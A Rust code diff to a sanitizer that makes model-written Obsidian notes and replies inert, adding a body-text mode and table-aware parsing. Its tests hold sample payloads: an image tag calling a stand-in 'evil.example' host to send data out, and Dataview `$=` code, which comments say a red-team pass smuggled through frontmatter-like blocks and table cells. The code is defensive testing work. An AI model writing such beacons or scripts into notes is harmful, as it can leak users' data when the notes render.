@@ -23,10 +23,22 @@ use crate::vault::text::strip_bom;
 use pulldown_cmark::{CodeBlockKind, Event, LinkType, Options, Parser, Tag};
 use std::borrow::Cow;
 
-/// `markdown` with what Obsidian would load or run made inert (see the
-/// module); borrowed when there is none.
+/// A whole note a model wrote (`write_note`) with what Obsidian would load
+/// or run made inert (see the module), its frontmatter left alone;
+/// borrowed when there is none.
 pub fn inert(markdown: &str) -> Cow<'_, str> {
-    let Cow::Owned(mut text) = pass(markdown) else {
+    made_inert(markdown, true)
+}
+
+/// [`inert`] for a reply written into a note's body (an output note, a
+/// judgment's rationale in the trace): a `---` block at its start is no
+/// frontmatter there, but a rule and a heading Obsidian renders.
+pub fn inert_body(text: &str) -> Cow<'_, str> {
+    made_inert(text, false)
+}
+
+fn made_inert(markdown: &str, note: bool) -> Cow<'_, str> {
+    let Cow::Owned(mut text) = pass(markdown, note) else {
         return Cow::Borrowed(markdown);
     };
     // Text a `<` hid (an unclosed comment swallows a code span after it)
@@ -34,18 +46,21 @@ pub fn inert(markdown: &str) -> Cow<'_, str> {
     // comes, since no edit writes a `<` and each takes one away or makes
     // one construct inert.
     loop {
-        match pass(&text) {
+        match pass(&text, note) {
             Cow::Borrowed(_) => return Cow::Owned(text),
             Cow::Owned(next) => text = next,
         }
     }
 }
 
-/// One reading of `markdown` and the edits it calls for.
-fn pass(markdown: &str) -> Cow<'_, str> {
+/// The readings of `markdown` and the edits any of them calls for: with
+/// tables, as Obsidian reads them (a cell ends at a `|` inside a code
+/// span, so what one reading sees as code another shows), and without.
+/// `note`: `markdown` is a whole note, whose frontmatter is left alone.
+fn pass(markdown: &str, note: bool) -> Cow<'_, str> {
     let (_, bom) = strip_bom(markdown);
     let body_start = match split(&markdown[bom..]) {
-        Split::Closed(block) => bom + block.body_offset,
+        Split::Closed(block) if note => bom + block.body_offset,
         _ => 0,
     };
     let body = &markdown[body_start..];
@@ -62,12 +77,40 @@ fn pass(markdown: &str) -> Cow<'_, str> {
     }
     // (offset in the body, bytes replaced, replacement), in order.
     let mut edits: Vec<(usize, usize, &str)> = Vec::new();
+    // Footnotes as the link reader has them.
+    for options in [
+        Options::ENABLE_FOOTNOTES,
+        Options::ENABLE_FOOTNOTES | Options::ENABLE_TABLES,
+    ] {
+        read(body, options, &mut edits);
+    }
+    if edits.is_empty() {
+        return Cow::Borrowed(markdown);
+    }
+    edits.sort_by_key(|&(at, _, _)| at);
+    edits.dedup();
+    let mut out = String::with_capacity(markdown.len() + edits.len() * 4);
+    out.push_str(&markdown[..body_start]);
+    let mut from = 0;
+    for (at, replaced, with) in edits {
+        if at < from {
+            continue;
+        }
+        out.push_str(&body[from..at]);
+        out.push_str(with);
+        from = at + replaced;
+    }
+    out.push_str(&body[from..]);
+    Cow::Owned(out)
+}
+
+/// One reading of `body` with `options`: the edits it calls for, added to
+/// `edits`.
+fn read(body: &str, options: Options, edits: &mut Vec<(usize, usize, &'static str)>) {
+    let bytes = body.as_bytes();
     // Where a `<` is code or an autolink's, not HTML.
     let mut not_html: Vec<std::ops::Range<usize>> = Vec::new();
     let mut links: Vec<std::ops::Range<usize>> = Vec::new();
-    // Footnotes as the link reader has them; a table's cells and struck
-    // text hold images and code as a paragraph does.
-    let options = Options::ENABLE_FOOTNOTES;
     for (event, range) in Parser::new_ext(body, options).into_offset_iter() {
         match event {
             Event::Start(Tag::Image { dest_url, .. })
@@ -127,23 +170,6 @@ fn pass(markdown: &str) -> Cow<'_, str> {
             edits.push((at, 1, "&lt;"));
         }
     }
-    if edits.is_empty() {
-        return Cow::Borrowed(markdown);
-    }
-    edits.sort_by_key(|&(at, _, _)| at);
-    let mut out = String::with_capacity(markdown.len() + edits.len() * 4);
-    out.push_str(&markdown[..body_start]);
-    let mut from = 0;
-    for (at, replaced, with) in edits {
-        if at < from {
-            continue;
-        }
-        out.push_str(&body[from..at]);
-        out.push_str(with);
-        from = at + replaced;
-    }
-    out.push_str(&body[from..]);
-    Cow::Owned(out)
 }
 
 /// Whether an image's destination is fetched from elsewhere: a scheme
@@ -166,7 +192,7 @@ fn is_remote(dest: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::inert;
+    use super::{inert, inert_body};
 
     fn check(input: &str, expect: &str) {
         assert_eq!(inert(input), expect, "{input:?}");
@@ -243,6 +269,36 @@ mod tests {
         );
     }
 
+    /// A reply starting with a `---` block is written into a note's body,
+    /// where it is a rule and a heading, not frontmatter: made inert as
+    /// any other text (a red-team pass had its image load from an output
+    /// note). A whole note's frontmatter stays as written.
+    #[test]
+    fn a_replys_leading_block_is_body_text() {
+        let reply = "---\nnote: <img src=\"https://evil.example/?d=1\">\njs: `$= dv.el(\"b\", \"x\")`\n---\nDone.\n";
+        let expect = "---\nnote: &lt;img src=\"https://evil.example/?d=1\">\njs: `$ = dv.el(\"b\", \"x\")`\n---\nDone.\n";
+        assert_eq!(inert_body(reply), expect);
+        assert_eq!(inert_body(expect), expect);
+        assert_eq!(inert(reply), reply, "a note's frontmatter");
+    }
+
+    /// A table's cell ends at a `|` inside a code span, as Obsidian (and
+    /// GitHub) read it: what a reading without tables takes for code is
+    /// HTML or a `$=` query in the cell (a red-team pass found both).
+    #[test]
+    fn a_table_cell_cut_through_a_code_span_hides_nothing() {
+        check(
+            "| a | b |\n| - | - |\n| `x | `$= dv.el(\"b\", \"p\")` |\n",
+            "| a | b |\n| - | - |\n| `x | `$ = dv.el(\"b\", \"p\")` |\n",
+        );
+        check(
+            "| c | d |\n| - | - |\n| `y | <img src=\"https://evil.example/?d=1\"> ` |\n",
+            "| c | d |\n| - | - |\n| `y | &lt;img src=\"https://evil.example/?d=1\"> ` |\n",
+        );
+        // Code in a cell is still code.
+        check("| a |\n| - |\n| `<b>` |\n", "| a |\n| - |\n| `<b>` |\n");
+    }
+
     proptest::proptest! {
         #![proptest_config(proptest::prelude::ProptestConfig::with_cases(3000))]
 
@@ -253,11 +309,14 @@ mod tests {
             pieces in proptest::collection::vec(proptest::sample::select(vec![
                 "![", "]", "(", ")", "https://h/x", "//h", "a.png", "<", ">", "img ", "src=x", "</",
                 "<!--", "-->", "`", "```", "~~~", "dataviewjs", "$=", "\n", " ", "\\", "---\n", "é", "[[", "]]",
+                "|", "| - |\n",
             ]), 0..24)
         ) {
             let text = pieces.concat();
             let once = inert(&text).into_owned();
             proptest::prop_assert_eq!(inert(&once).into_owned(), once.clone(), "{:?}", text);
+            let body = inert_body(&text).into_owned();
+            proptest::prop_assert_eq!(inert_body(&body).into_owned(), body.clone(), "{:?}", text);
         }
     }
 
